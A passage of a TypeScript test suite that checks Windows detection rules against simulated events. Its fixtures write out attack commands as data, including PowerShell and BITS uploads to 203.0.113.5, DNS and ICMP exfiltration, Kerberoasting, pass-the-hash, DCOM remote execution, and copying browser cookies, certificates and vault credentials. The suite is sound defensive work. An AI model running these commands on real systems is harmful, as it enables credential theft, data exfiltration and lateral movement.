    expectHit(PST, proc(3, `${S32}cmd.exe`, 'cmd /c copy "C:\\Users\\bob\\Documents\\Outlook Files\\mail.pst" C:\\Users\\Public\\'), 'medium', 'collection');
    expect(titlesOf(proc(4, `${S32}cmd.exe`, 'cmd /c copy report.txt C:\\Users\\Public\\'))).not.toContain(PST);
    const OLK = 'Outlook Mailbox Read Through COM In A Script Block (4104)';
    expectHit(OLK, block(5, '$o = New-Object -ComObject Outlook.Application; $inbox = $o.GetNamespace("MAPI").GetDefaultFolder(6)'), 'medium', 'collection');
    expect(titlesOf(block(6, 'Get-Process OUTLOOK; "Outlook.Application is installed"'))).not.toContain(OLK);
    const STAGE = 'Documents Copied In Bulk Into A Temporary Or Public Folder';
    expectHit(STAGE, proc(7, `${S32}Robocopy.exe`, 'robocopy C:\\Users\\bob\\Documents C:\\Users\\Public\\s *.docx *.pdf /S'), 'low', 'collection');
    expect(titlesOf(proc(8, `${S32}Robocopy.exe`, 'robocopy C:\\Users\\bob\\Documents D:\\Backup *.docx /S'))).not.toContain(STAGE);
    const CAB = 'Cabinet Archive Made From User Files With makecab Or diantz';
    expectHit(CAB, proc(9, `${S32}makecab.exe`, 'makecab C:\\Users\\bob\\Documents\\a.docx C:\\Windows\\Temp\\a.cab'), 'low', 'collection');
    expect(titlesOf(proc(10, `${S32}makecab.exe`, 'makecab C:\\Windows\\Logs\\CBS\\CBS.log C:\\Windows\\Logs\\CBS\\CBS.cab'))).not.toContain(CAB);
    const UP = 'File Or Data Uploaded With WebClient In A Script Block (4104)';
    expectHit(UP, block(11, '(New-Object Net.WebClient).UploadFile("http://203.0.113.5/u", "C:\\Users\\Public\\d.zip")'), 'medium', 'exfiltration');
    expect(titlesOf(block(12, '(New-Object Net.WebClient).DownloadFile("http://203.0.113.5/a", "a.exe")'))).not.toContain(UP);
    expectHit('File Or Data Uploaded With WebClient From A Command Line', proc(13, PSH, 'powershell -c "(New-Object Net.WebClient).UploadString(\'http://203.0.113.5/u\', $d)"'), 'medium', 'exfiltration');
    const SCP = 'File Copied To Another Host With scp, pscp Or sftp';
    expectHit(SCP, proc(14, `${S32}OpenSSH\\scp.exe`, 'scp C:\\Users\\Public\\d.zip user@203.0.113.5:/tmp/'), 'low', 'exfiltration');
    expect(titlesOf(proc(15, `${S32}OpenSSH\\scp.exe`, 'scp -V'))).not.toContain(SCP);
    const SHARE = 'Archive Copied To A Network Share';
    expectHit(SHARE, proc(16, `${S32}cmd.exe`, 'cmd /c copy C:\\Users\\Public\\d.zip \\\\203.0.113.5\\share\\'), 'low', 'exfiltration');
    expect(titlesOf(proc(17, `${S32}cmd.exe`, 'cmd /c copy C:\\Users\\Public\\d.zip \\\\127.0.0.1\\C$\\t\\'))).not.toContain(SHARE);
    const NSL = 'Nslookup Of A Name With A Long Encoded Label';
    expectHit(NSL, proc(18, `${S32}nslookup.exe`, 'nslookup ZGF0YWRhdGFkYXRhZGF0YWRhdGFkYXRhZGF0YQ.exfil.example.com'), 'low', 'exfiltration');
    expect(titlesOf(proc(19, `${S32}nslookup.exe`, 'nslookup www.example.com'))).not.toContain(NSL);
    const ICMP = 'ICMP Echo With A Data Buffer Sent From A Script Block (4104)';
    expectHit(ICMP, block(20, '$p = New-Object System.Net.NetworkInformation.Ping; $p.Send("203.0.113.5", 1500, [Text.Encoding]::ASCII.GetBytes($d))'), 'medium', 'exfiltration');
    expect(titlesOf(block(21, 'Test-Connection -ComputerName SRV02 -Count 1'))).not.toContain(ICMP);
    const PASTE = 'Paste Or File-Sharing Service Resolved By A Script Host Or Windows Tool (Sysmon 22)';
    const dns = (t: number, image: string, name: string): Ev => win(t, ...SYSMON, 22, { Image: image, QueryName: name, QueryResults: '203.0.113.7' });
    expectHit(PASTE, dns(22, PSH, 'pastebin.com'), 'medium', 'exfiltration');
    expect(titlesOf(dns(23, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'pastebin.com'))).not.toContain(PASTE);
    const FTP = 'Script Host Or Proxy Program Connecting To An FTP Or Mail Port (Sysmon 3)';
    const net = (t: number, image: string, port: string, ip = '203.0.113.5'): Ev => win(t, ...SYSMON, 3, { Image: image, Initiated: 'true', DestinationIp: ip, DestinationPort: port, Protocol: 'tcp' });
    expectHit(FTP, net(24, PSH, '21'), 'low', 'exfiltration');
    expect(titlesOf(net(25, PSH, '443'))).not.toContain(FTP);
  });

  it('lateral movement and initial access: admin ports from scripts, outbound RDP, SSH clients, files into remote sessions, Office and browser children, attachment caches, archives and downloads, the mark of the web; near misses are not', () => {
    const net = (t: number, image: string, port: string, ip = '10.0.0.5'): Ev => win(t, ...SYSMON, 3, { Image: image, Initiated: 'true', DestinationIp: ip, DestinationPort: port, Protocol: 'tcp' });
    const ADM = 'Script Host Or Windows Tool Connecting To A Remote Administration Port (Sysmon 3)';
    expectHit(ADM, net(1, PSH, '5985'), 'low', 'lateral-movement');
    expect(titlesOf(net(2, PSH, '5985', '127.0.0.1'))).not.toContain(ADM);
    expect(titlesOf(net(3, `${S32}svchost.exe`, '445'))).not.toContain(ADM);
    const RDP = 'Outbound Remote Desktop Connection (Sysmon 3)';
    expectHit(RDP, net(4, `${S32}mstsc.exe`, '3389'), 'low', 'lateral-movement');
    expect(titlesOf(net(5, `${S32}mstsc.exe`, '3389', '127.0.0.1'))).not.toContain(RDP);
    const SSH = 'SSH Client Session To Another Host';
    expectHit(SSH, proc(6, `${S32}OpenSSH\\ssh.exe`, 'ssh admin@10.0.0.5'), 'low', 'lateral-movement');
    expect(titlesOf(proc(7, `${S32}OpenSSH\\ssh.exe`, 'ssh -V'))).not.toContain(SSH);
    const TOS = 'File Copied Into A Remote PowerShell Session (4104)';
    expectHit(TOS, block(8, '$s = New-PSSession SRV02; Copy-Item -Path C:\\Users\\Public\\x.exe -Destination C:\\Windows\\Temp\\ -ToSession $s'), 'low', 'lateral-movement');
    expect(titlesOf(block(9, 'Copy-Item -Path a.txt -Destination b.txt'))).not.toContain(TOS);
    const OFF = 'Office Document Application Starts A Shell, Script Host Or Download Tool';
    const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
    expectHit(OFF, sysmon1(10, PSH, 'powershell -nop -w hidden -c iex $x', { ParentImage: WORD }), 'high', 'initial-access');
    expect(titlesOf(sysmon1(11, PSH, 'powershell -c calc', { ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', ParentCommandLine: 'EXCEL.EXE /automation -Embedding' }))).not.toContain(OFF);
    expect(titlesOf(sysmon1(12, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\MSOSYNC.EXE', 'msosync.exe', { ParentImage: WORD }))).not.toContain(OFF);
    const OFW = 'Office Application Writes A Program Or Script (Sysmon 11)';
    const file = (t: number, image: string, target: string): Ev => win(t, ...SYSMON, 11, { Image: image, TargetFilename: target });
    expectHit(OFW, file(13, WORD, 'C:\\Users\\bob\\AppData\\Local\\Temp\\a.exe'), 'medium', 'initial-access');
    expect(titlesOf(file(14, WORD, 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\report.docx.lnk'))).not.toContain(OFW);
    const ATT = 'Executable Or Script Saved In The Outlook Attachment Cache (Sysmon 11)';
    const OUTLOOK = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE';
    expectHit(ATT, file(15, OUTLOOK, 'C:\\Users\\bob\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\AB12CD34\\invoice.js'), 'medium', 'initial-access');
    expect(titlesOf(file(16, OUTLOOK, 'C:\\Users\\bob\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\AB12CD34\\invoice.pdf'))).not.toContain(ATT);
    const RUN = 'Script Or Program Run From A Mail Attachment, Download Or Opened Archive';
    expectHit(RUN, sysmon1(17, `${S32}wscript.exe`, '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\bob\\AppData\\Local\\Temp\\Temp1_invoice.zip\\invoice.vbs"', { ParentImage: 'C:\\Windows\\explorer.exe' }), 'medium', 'initial-access');
    expectHit(RUN, sysmon1(18, 'C:\\Users\\bob\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\AB12CD34\\invoice.exe', 'invoice.exe', { ParentImage: OUTLOOK }), 'medium', 'initial-access');
    expect(titlesOf(sysmon1(25, 'C:\\Users\\bob\\AppData\\Local\\Temp\\Temp1_ProcessMonitor.zip\\Procmon.exe', 'Procmon.exe', { ParentImage: 'C:\\Windows\\explorer.exe' }))).not.toContain(RUN);
    expect(titlesOf(sysmon1(19, `${S32}wscript.exe`, 'wscript.exe C:\\Scripts\\logon.vbs', { ParentImage: 'C:\\Windows\\explorer.exe' }))).not.toContain(RUN);
    const MOTW = 'Program Or Script Downloaded From The Internet (Mark Of The Web, Sysmon 15)';
    const stream = (t: number, target: string, zone: string): Ev => win(t, ...SYSMON, 15, { Image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', TargetFilename: target, Contents: `[ZoneTransfer]  ZoneId=${zone}` });
    expectHit(MOTW, stream(20, 'C:\\Users\\bob\\Downloads\\setup.exe:Zone.Identifier', '3'), 'informational', 'initial-access');
    expect(titlesOf(stream(21, 'C:\\Users\\bob\\Downloads\\setup.exe:Zone.Identifier', '1'))).not.toContain(MOTW);
    expect(titlesOf(stream(22, 'C:\\Users\\bob\\Downloads\\report.pdf:Zone.Identifier', '3'))).not.toContain(MOTW);
    const BRW = 'Web Browser Starts A Shell, Script Host Or Proxy Program';
    const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
    expectHit(BRW, sysmon1(23, `${S32}cmd.exe`, 'cmd.exe /c powershell -enc AAAA', { ParentImage: CHROME }), 'medium', 'initial-access');
    expect(titlesOf(sysmon1(24, `${S32}cmd.exe`, 'C:\\WINDOWS\\system32\\cmd.exe /d /c "C:\\Program Files\\App\\host.exe" chrome-extension://abcdef/ --parent-window=0', { ParentImage: CHROME }))).not.toContain(BRW);
  });

  it('script-block behaviours read from command lines too (DCOM objects, Kerberos tickets, screenshots, mail and web uploads, paste sites, pings, Outlook, remote sessions, archives, discovery cmdlets, pass-the-hash), admin shares and WinRM from PowerShell, RDP ports, browser stores, certificate keys, IIS and vault credentials; near misses are not', () => {
    const ps = (t: number, cmd: string): Ev => proc(t, PSH, cmd);
    expectHit('Remote-Capable DCOM Object Instantiated From A Command Line', ps(1, 'powershell -c "$c=[activator]::CreateInstance([type]::GetTypeFromProgID(\'MMC20.Application\',\'10.0.0.5\'));$c.Document.ActiveView.ExecuteShellCommand(\'cmd\',$null,\'/c calc\',\'7\')"'), 'high', 'lateral-movement');
    expect(titlesOf(ps(2, 'powershell -c "[type]::GetTypeFromProgID(\'Scripting.FileSystemObject\')"'))).not.toContain('Remote-Capable DCOM Object Instantiated From A Command Line');
    expectHit('Kerberos Service Tickets Requested From A Command Line', ps(3, 'powershell -c "Add-Type -AssemblyName System.IdentityModel; New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList \'HTTP/web01\'"'), 'medium', 'credential-access');
    expectHit('Screen Captured From A Command Line', ps(4, 'powershell -c "$g=[Drawing.Graphics]::FromImage($b); $g.CopyFromScreen(0,0,0,0,$b.Size)"'), 'medium', 'collection');
    const MAIL = 'Mail With An Attachment Sent With Send-MailMessage From A Command Line';
    expectHit(MAIL, ps(5, 'powershell -c "Send-MailMessage -From a@x -To b@y -Subject s -Attachments C:\\Users\\Public\\d.zip -SmtpServer smtp.example.net"'), 'medium', 'exfiltration');
    expect(titlesOf(ps(6, 'powershell -c "Send-MailMessage -From a@x -To b@y -Subject done -SmtpServer smtp.example.net"'))).not.toContain(MAIL);
    expectHit('Mail With An Attachment Sent With Send-MailMessage In A Script Block (4104)', block(7, 'Send-MailMessage -To b@y -Attachments $zip -SmtpServer $s'), 'medium', 'exfiltration');
    const UPC = 'File Uploaded With Invoke-WebRequest Or Invoke-RestMethod From A Command Line';
    expectHit(UPC, ps(8, 'powershell -c "Invoke-WebRequest -Uri http://203.0.113.5/u -Method Put -InFile C:\\Users\\Public\\d.zip"'), 'medium', 'exfiltration');
    expectHit(UPC, ps(9, 'powershell -c "$c = Get-Content C:\\Users\\Public\\d.txt; Invoke-RestMethod -Uri http://203.0.113.5/u -Method Post -Body $c"'), 'medium', 'exfiltration');
    expect(titlesOf(ps(10, 'powershell -c "Invoke-WebRequest -Uri http://203.0.113.5/a.exe -OutFile a.exe"'))).not.toContain(UPC);
    expectHit('File Uploaded With Invoke-WebRequest Or Invoke-RestMethod In A Script Block (4104)', block(11, 'Invoke-RestMethod -Uri $u -Method Post -InFile $f'), 'medium', 'exfiltration');
    const PASTE = 'Paste Or File-Sharing Service Named On A Command Line';
    expectHit(PASTE, ps(12, 'powershell -c "Invoke-RestMethod -Uri https://pastebin.com/api/api_post.php -Method Post -Body $b"'), 'medium', 'exfiltration');
    expect(titlesOf(proc(13, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'chrome.exe https://pastebin.com/abc'))).not.toContain(PASTE);
    expectHit('ICMP Echo With A Data Buffer Sent From A Command Line', ps(14, 'powershell -c "$p=New-Object System.Net.NetworkInformation.Ping; $p.Send(\'203.0.113.5\',1500,[Text.Encoding]::ASCII.GetBytes(\'data\'))"'), 'medium', 'exfiltration');
    expectHit('Outlook Mailbox Read Through COM From A Command Line', ps(15, 'powershell -c "(New-Object -ComObject Outlook.Application).GetNamespace(\'MAPI\').GetDefaultFolder(6).Items"'), 'medium', 'collection');
    expectHit('File Copied Into A Remote PowerShell Session From A Command Line', ps(16, 'powershell -c "$s=New-PSSession SRV02; Copy-Item C:\\x.exe -Destination C:\\Windows\\Temp -ToSession $s"'), 'low', 'lateral-movement');
    expectHit('Files Archived With Compress-Archive From A Command Line', ps(17, 'powershell -c "Compress-Archive -Path C:\\Users\\bob\\Documents -DestinationPath C:\\Users\\Public\\d.zip"'), 'informational', 'collection');
    const DISC = 'Host, Network Or Account Discovery Cmdlets From A Command Line';
    expectHit(DISC, ps(18, 'powershell -c "Get-CimInstance Win32_Share"'), 'informational', 'discovery');
    expect(titlesOf(proc(19, `${S32}cmd.exe`, 'cmd /c echo Get-SmbShare'))).not.toContain(DISC);
    expectHit('Hardware Maker, Model Or BIOS Queried (Virtual Machine Checks)', ps(20, 'powershell -c "Get-WmiObject Win32_BIOS | Select SerialNumber, Manufacturer"'), 'low', 'discovery');
    const MAP = 'Administrative Share Mapped With New-PSDrive Or New-SmbMapping From A Command Line';
    expectHit(MAP, ps(21, 'powershell -c "New-PSDrive -Name g -PSProvider FileSystem -Root \\\\SRV02\\C$"'), 'low', 'lateral-movement');
    expect(titlesOf(ps(22, 'powershell -c "New-PSDrive -Name s -PSProvider FileSystem -Root \\\\fs01\\public"'))).not.toContain(MAP);
    const WRM = 'WinRM Remoting Enabled Or Trusted Hosts Widened From A Command Line';
    expectHit(WRM, ps(23, 'powershell -c "Enable-PSRemoting -Force"'), 'low', 'lateral-movement');
    expectHit('WinRM Remoting Enabled Or Trusted Hosts Widened In A Script Block (4104)', block(24, 'Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value * -Force'), 'low', 'lateral-movement');
    expect(titlesOf(ps(25, 'powershell -c "Get-Item WSMan:\\localhost\\Listener"'))).not.toContain(WRM);
    const RDPP = 'Remote Desktop Listening Port Changed (Sysmon 13)';
    const reg = (t: number, key: string): Ev => win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: PSH, TargetObject: key, Details: 'DWORD (0x0000d431)' });
    expectHit(RDPP, reg(26, 'HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp\\PortNumber'), 'medium', 'lateral-movement');
    expect(titlesOf(reg(27, 'HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp\\MaxIdleTime'))).not.toContain(RDPP);
    expectHit('Remote Desktop Listening Port Changed From A Command Line', ps(28, 'powershell -c "Set-ItemProperty -Path \'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp\' -Name PortNumber -Value 4489"'), 'medium', 'lateral-movement');
    const BRS = 'Browser Password Or Cookie Store Named From A Command Line';
    expectHit(BRS, ps(29, 'powershell -c "Copy-Item $env:APPDATA\\Mozilla\\Firefox\\Profiles\\x.default-release\\cookies.sqlite C:\\Users\\Public\\c.sqlite"'), 'medium', 'credential-access');
    expect(titlesOf(ps(30, 'powershell -c "Copy-Item $env:APPDATA\\Mozilla\\Firefox\\Profiles\\x.default-release\\prefs.js C:\\Users\\Public\\p.js"'))).not.toContain(BRS);
    const PFX = 'Certificate With Its Private Key Exported';
    expectHit(PFX, proc(31, `${S32}certutil.exe`, 'certutil -p pw -exportPFX My 1a2b3c C:\\Users\\Public\\c.pfx'), 'medium', 'credential-access');
    expect(titlesOf(proc(32, `${S32}certutil.exe`, 'certutil -store My'))).not.toContain(PFX);
    const IIS = 'IIS Application Pool Or Site Credentials Read With appcmd';
    expectHit(IIS, proc(33, `${S32}inetsrv\\appcmd.exe`, 'appcmd.exe list apppool /config'), 'medium', 'credential-access');
    expect(titlesOf(proc(34, `${S32}inetsrv\\appcmd.exe`, 'appcmd.exe list apppool'))).not.toContain(IIS);
    expectHit('Windows Credential Vault Read Through The PasswordVault Class From A Command Line', ps(35, 'powershell -c "[void][Windows.Security.Credentials.PasswordVault,Windows.Security.Credentials,ContentType=WindowsRuntime]; (New-Object Windows.Security.Credentials.PasswordVault).RetrieveAll()"'), 'medium', 'credential-access');
    const PTH = 'Pass-The-Hash Remote Execution Functions From A Command Line';
    expectHit(PTH, ps(36, 'powershell -c "Invoke-WMIExec -Target 10.0.0.5 -Username admin -Hash 31d6cfe0d16ae931b73c59d7e0c089c0 -Command hostname"'), 'high', 'lateral-movement');
    expect(titlesOf(ps(37, 'powershell -c "Invoke-Command -ComputerName SRV02 -ScriptBlock { hostname }"'))).not.toContain(PTH);
  });

  it('remote service, task and event-log pipes, default accounts activated, deny entries, restarts by commands, hidden-file settings, network providers, shells started by the service manager; near misses are not', () => {
    const PIPE = 'Service Control, Task Scheduler Or Event Log Pipe Connected From The Network (Sysmon 18)';
    const pipe = (t: number, name: string, image = 'System'): Ev => win(t, ...SYSMON, 18, { EventType: 'ConnectPipe', PipeName: name, Image: image });
    expectHit(PIPE, pipe(1, '\\svcctl'), 'low', 'lateral-movement');
    expect(titlesOf(pipe(2, '\\svcctl', `${S32}svchost.exe`))).not.toContain(PIPE);
    expect(titlesOf(pipe(3, '\\srvsvc'))).not.toContain(PIPE);
    const ACT = 'Guest Or Built-in Administrator Account Activated With net';
    expectHit(ACT, proc(4, `${S32}net.exe`, 'net user guest /active:yes'), 'medium', 'initial-access');
    expect(titlesOf(proc(5, `${S32}net.exe`, 'net user guest /active:no'))).not.toContain(ACT);
    const DENY = 'Access Denied On A File Or Folder With icacls Or cacls';
    expectHit(DENY, proc(6, `${S32}icacls.exe`, 'icacls C:\\Users\\Public\\x.exe /deny Everyone:F'), 'low', 'defense-impairment');
    expect(titlesOf(proc(7, `${S32}icacls.exe`, 'icacls C:\\Data /grant Users:R'))).not.toContain(DENY);
    const SHUT = 'Restart Or Shutdown Started By A Command-Line Tool (User32 1074)';
    const r1074 = (t: number, p1: string): Ev => win(t, 'System', 'User32', 1074, { param1: p1, param2: 'WS01', param5: 'restart', param7: 'CORP\\bob' });
    expectHit(SHUT, r1074(8, 'C:\\Windows\\system32\\shutdown.exe (WS01)'), 'informational', 'impact');
    expect(titlesOf(r1074(9, 'C:\\Windows\\system32\\winlogon.exe (WS01)'))).not.toContain(SHUT);
    const HID = 'Explorer Set To Hide Hidden Files, Protected Files Or Extensions (Sysmon 13)';
    const reg = (t: number, image: string, key: string, details: string): Ev => win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: image, TargetObject: key, Details: details });
    expectHit(HID, reg(10, `${S32}reg.exe`, 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced\\Hidden', 'DWORD (0x00000002)'), 'low', 'stealth');
    expect(titlesOf(reg(11, 'C:\\Windows\\explorer.exe', 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced\\Hidden', 'DWORD (0x00000002)'))).not.toContain(HID);
    expect(titlesOf(reg(12, `${S32}reg.exe`, 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced\\Hidden', 'DWORD (0x00000001)'))).not.toContain(HID);
    const NP = 'Network Provider Registered Or Provider Order Changed (Sysmon 13)';
    expectHit(NP, reg(13, `${S32}reg.exe`, 'HKLM\\System\\CurrentControlSet\\Services\\Spy\\NetworkProvider\\ProviderPath', '%SystemRoot%\\System32\\spy.dll'), 'medium', 'credential-access');
    expect(titlesOf(reg(14, `${S32}msiexec.exe`, 'HKLM\\System\\CurrentControlSet\\Control\\NetworkProvider\\Order\\ProviderOrder', 'RDPNP,LanmanWorkstation,webclient,VendorVPN'))).not.toContain(NP);
    const SVC = 'Shell Started Directly By The Service Control Manager';
    expectHit(SVC, sysmon1(15, `${S32}cmd.exe`, 'cmd.exe /c C:\\Windows\\Temp\\x.bat', { ParentImage: `${S32}services.exe` }), 'medium', 'execution');
    expect(titlesOf(sysmon1(16, `${S32}svchost.exe`, 'svchost.exe -k netsvcs', { ParentImage: `${S32}services.exe` }))).not.toContain(SVC);
  });

  it('programs in user profiles running as SYSTEM, SYSTEM tokens assigned by user programs (4696), BITS uploads, SilentCleanup started on demand; near misses are not', () => {
    const USR = 'Program In A User Profile Running As SYSTEM';
    expectHit(USR, sysmon1(1, 'C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe', 'x.exe', { User: 'NT AUTHORITY\\SYSTEM', IntegrityLevel: 'System', ParentImage: `${S32}svchost.exe` }), 'medium', 'privilege-escalation');
    expect(titlesOf(sysmon1(2, 'C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe', 'x.exe', { IntegrityLevel: 'Medium' }))).not.toContain(USR);
    expect(titlesOf(sysmon1(3, 'C:\\Program Files\\Vendor\\agent.exe', 'agent.exe', { User: 'NT AUTHORITY\\SYSTEM', IntegrityLevel: 'System' }))).not.toContain(USR);
    const TOK = 'SYSTEM Token Assigned To A Process By A Non-System Program (4696)';
    const t4696 = (t: number, subject: string, process: string): Ev => sec(t, 4696, { SubjectUserSid: subject, SubjectUserName: 'bob', ProcessName: process, TargetProcessName: `${S32}cmd.exe`, TargetUserSid: 'S-1-5-18', TargetUserName: 'SYSTEM' });
    expectHit(TOK, t4696(4, 'S-1-5-21-1-2-3-1104', 'C:\\Users\\bob\\Desktop\\tok.exe'), 'medium', 'privilege-escalation');
    expect(titlesOf(t4696(5, 'S-1-5-18', 'C:\\Users\\bob\\Desktop\\tok.exe'))).not.toContain(TOK);
    expect(titlesOf(t4696(6, 'S-1-5-21-1-2-3-1104', `${S32}svchost.exe`))).not.toContain(TOK);
    const BITS = 'File Uploaded With A BITS Job';
    expectHit(BITS, proc(9, `${S32}bitsadmin.exe`, 'bitsadmin /transfer j /upload /priority high http://203.0.113.5/u C:\\Users\\Public\\d.zip'), 'medium', 'exfiltration');
    expect(titlesOf(proc(10, `${S32}bitsadmin.exe`, 'bitsadmin /transfer j /download /priority high http://203.0.113.5/a.exe C:\\Users\\Public\\a.exe'))).not.toContain(BITS);
    const SC = 'Disk Cleanup Task Started On Demand (SilentCleanup)';
    expectHit(SC, proc(7, `${S32}schtasks.exe`, 'schtasks /run /tn \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup /I'), 'low', 'privilege-escalation');
    expect(titlesOf(proc(8, `${S32}schtasks.exe`, 'schtasks /query /tn \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup'))).not.toContain(SC);
  });

  it('LSASS read through a user-folder library, Tor ports, dynamic DNS names, BloodHound collection arguments; near misses are not', () => {
    const MOD = 'LSASS Read Through A Module In A User-Writable Folder (Sysmon 10)';
    const open = (t: number, src: string, trace: string): Ev => win(t, ...SYSMON, 10, { SourceImage: src, TargetImage: `${S32}lsass.exe`, GrantedAccess: '0x1010', CallTrace: trace });
    expectHit(MOD, open(1, `${S32}svchost.exe`, 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Users\\Public\\evil.dll+1a2b|C:\\Windows\\System32\\KERNEL32.DLL+17034'), 'high', 'credential-access');
    expect(titlesOf(open(2, 'C:\\Users\\bob\\AppData\\Local\\Temp\\Procmon64.exe', 'C:\\Windows\\SYSTEM32\\ntdll.dll+a5874|C:\\Users\\bob\\AppData\\Local\\Temp\\Procmon64.exe+7b4d0'))).not.toContain(MOD);
    const TOR = 'Connection To A Tor Relay Or Proxy Port (Sysmon 3)';
    const net = (t: number, port: string): Ev => win(t, ...SYSMON, 3, { Image: 'C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe', Initiated: 'true', DestinationIp: '198.51.100.9', DestinationPort: port, Protocol: 'tcp' });
    expectHit(TOR, net(3, '9001'), 'medium', 'command-and-control');
    expect(titlesOf(net(4, '9443'))).not.toContain(TOR);
    const DDNS = 'Dynamic DNS Name Resolved By A Program Other Than A Browser (Sysmon 22)';
    const dns = (t: number, image: string, name: string): Ev => win(t, ...SYSMON, 22, { Image: image, QueryName: name, QueryResults: '198.51.100.9' });
    expectHit(DDNS, dns(5, 'C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe', 'evil.ddns.net'), 'low', 'command-and-control');
    expect(titlesOf(dns(6, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'evil.ddns.net'))).not.toContain(DDNS);
    expect(titlesOf(dns(7, 'C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe', 'ddns.net.example.com'))).not.toContain(DDNS);
    const BH = 'Active Directory Collector Arguments (BloodHound Collection Methods)';
    expectHit(BH, proc(8, 'C:\\Users\\bob\\s.exe', 's.exe -c All --zipfilename out.zip'), 'high', 'discovery');
    expectHit(BH, proc(10, 'C:\\Users\\bob\\s.exe', 's.exe --CollectionMethods Session,Group'), 'high', 'discovery');
    expect(titlesOf(proc(9, 'C:\\Tools\\7z.exe', '7z.exe a -tzip out.zip -c All'))).not.toContain(BH);
  });

  it('Sysmon, process and PowerShell families of classic simulations: credential stores read, script engines and drivers loaded, installers, engines forced, RDP client drives, remote registry, server shells, DoH, ProcDump arguments, SSP logs, DCOM Office; near misses are not', () => {
    const sysmon = (t: number, eventId: number, data: JsonRecord): Ev => win(t, ...SYSMON, eventId, data);
    const CRED = 'Password Manager Or Remote Access Program Memory Read By A Script Or User-Folder Program (Sysmon 10)';
    const access = (t: number, src: string, target: string): Ev => sysmon(t, 10, { SourceImage: src, TargetImage: target, GrantedAccess: '0x1fffff', CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9c584' });
    expectHit(CRED, access(1, 'C:\\Users\\bob\\AppData\\Local\\Temp\\k.exe', 'C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe'), 'medium', 'credential-access');
    expectHit(CRED, access(2, PSH, 'C:\\Program Files (x86)\\TeamViewer\\TeamViewer.exe'), 'medium', 'credential-access');
    expect(titlesOf(access(3, 'C:\\Program Files\\Vendor\\av.exe', 'C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe'))).not.toContain(CRED);
    const ENG = 'Script Engine Loaded By A Program That Is Not A Script Host (Sysmon 7)';
    const load = (t: number, image: string, dll: string): Ev => sysmon(t, 7, { Image: image, ImageLoaded: `${S32}${dll}`, Signed: 'true' });
    expectHit(ENG, load(4, `${S32}rundll32.exe`, 'jscript9.dll'), 'low', 'execution');
    expectHit(ENG, load(5, 'C:\\Users\\bob\\x.exe', 'scrobj.dll'), 'low', 'stealth');
    expect(titlesOf(load(6, `${S32}wscript.exe`, 'vbscript.dll'))).not.toContain(ENG);
    expect(titlesOf(load(7, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', 'vbscript.dll'))).not.toContain(ENG);
    const DRV = 'Driver Loaded From A User-Writable Folder (Sysmon 6)';
    expectHit(DRV, sysmon(8, 6, { ImageLoaded: 'C:\\Users\\bob\\AppData\\Local\\Temp\\drv.sys', Signed: 'true', SignatureStatus: 'Valid' }), 'high', 'stealth');
    expect(titlesOf(sysmon(9, 6, { ImageLoaded: `${S32}drivers\\ntfs.sys`, Signed: 'true', SignatureStatus: 'Valid' }))).not.toContain(DRV);
    expect(hitOf('Unsigned Or Invalidly Signed Driver Loaded (Sysmon 6)', sysmon(10, 6, { ImageLoaded: `${S32}drivers\\x.sys`, Signed: 'false' }))?.tactics).toContain('stealth');
    const MSI = 'Shell Or Script Host Started By Windows Installer';
    expectHit(MSI, sysmon1(11, `${S32}cmd.exe`, 'cmd.exe /c whoami', { ParentImage: `${S32}msiexec.exe` }), 'low', 'execution');
    expect(titlesOf(sysmon1(12, `${S32}msiexec.exe`, 'MsiExec.exe -Embedding 1234', { ParentImage: `${S32}msiexec.exe` }))).not.toContain(MSI);
    const E = 'Script Host Told Which Engine To Use (//E:)';
    expectHit(E, proc(13, `${S32}wscript.exe`, 'wscript.exe //e:vbscript C:\\Users\\bob\\a.log'), 'medium', 'execution');
    expect(titlesOf(proc(14, `${S32}cscript.exe`, 'cscript.exe //nologo C:\\Windows\\System32\\slmgr.vbs /dli'))).not.toContain(E);
    const TSC = 'Program Run Or Copied From An RDP Client Drive (\\\\tsclient)';
    expectHit(TSC, sysmon1(15, '\\\\tsclient\\C\\tools\\x.exe', '\\\\tsclient\\C\\tools\\x.exe', { ParentImage: 'C:\\Windows\\explorer.exe' }), 'medium', 'lateral-movement');
